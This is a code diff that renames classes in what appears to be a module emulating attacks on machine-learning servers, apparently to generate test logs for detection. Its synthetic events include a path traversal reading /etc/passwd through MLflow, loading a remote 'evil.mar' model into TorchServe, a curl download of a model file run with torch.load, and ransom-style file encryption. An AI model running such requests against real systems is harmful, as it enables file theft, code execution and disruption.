@@ -2,7 +2,7 @@
 
 from typing import Final
 
-from caponier.emulate.deeds.deed import THIEF, Deed, Row, line, process, requested, written
+from caponier.emulate.deeds.attack_step import THIEF, AttackStep, Row, line, process, requested, written
 
 _DESK: Final = "10.8.0.21"
 
@@ -15,7 +15,7 @@ def _uvicorn(address: str, method: str, target: str, status: str = "200 OK") -> 
     return line(f'INFO:     {address}:51514 - "{method} {target} HTTP/1.1" {status}')
 
 
-CODE: Final = Deed(
+CODE: Final = AttackStep(
     "code sent to a notebook or a cluster of workers",
     (
         (_jupyter(THIEF, "POST", "/api/kernels"),),
@@ -36,7 +36,7 @@ CODE: Final = Deed(
     ),
 )
 
-FILES: Final = Deed(
+FILES: Final = AttackStep(
     "files read through MLflow",
     (
         (requested(THIEF, "GET", "/get-artifact?path=../../../etc/passwd&run_uuid=1"),),
@@ -54,7 +54,7 @@ FILES: Final = Deed(
     ),
 )
 
-RIGHTS: Final = Deed(
+RIGHTS: Final = AttackStep(
     "rights in MLflow",
     (
         (requested(THIEF, "POST", "/api/2.0/mlflow/users/create"),),
@@ -70,7 +70,7 @@ RIGHTS: Final = Deed(
     ),
 )
 
-FOREIGN: Final = Deed(
+FOREIGN: Final = AttackStep(
     "a foreign model in TorchServe",
     (
         (requested(THIEF, "POST", "/models?url=https://files.example.net/evil.mar"),),
@@ -86,7 +86,7 @@ FOREIGN: Final = Deed(
     ),
 )
 
-MANAGED: Final = Deed(
+MANAGED: Final = AttackStep(
     "a model server managed by a stranger",
     (
         (requested(THIEF, "POST", "/v2/repository/models/digits/unload"),),
@@ -106,7 +106,7 @@ MANAGED: Final = Deed(
     ),
 )
 
-STOPPED: Final = Deed(
+STOPPED: Final = AttackStep(
     "a model server stopped on its host",
     (
         (process("systemctl stop tritonserver"),),
@@ -128,7 +128,7 @@ STOPPED: Final = Deed(
     ),
 )
 
-PULLED: Final = Deed(
+PULLED: Final = AttackStep(
     "a model pulled and run",
     (
         (process("curl -LO https://files.example.net/m.pt"), process("python -c import torch; torch.load('m.pt')")),
@@ -148,7 +148,7 @@ PULLED: Final = Deed(
 )  # fmt: skip
 
 _FILES: Final = tuple(f"D:\\models\\v{number}.safetensors" for number in range(60))
-ENCRYPTED: Final = Deed(
+ENCRYPTED: Final = AttackStep(
     "model files held to ransom",
     (
         tuple(written(f"{name}.locked") for name in _FILES),
@@ -166,7 +166,7 @@ ENCRYPTED: Final = Deed(
 )
 
 
-REACHED: Final = Deed(
+REACHED: Final = AttackStep(
     "a management port reached from outside",
     tuple(
         ({"TimeGenerated": None, "Type": "CommonSecurityLog", "DeviceAction": "allow", "SourceIP": THIEF,
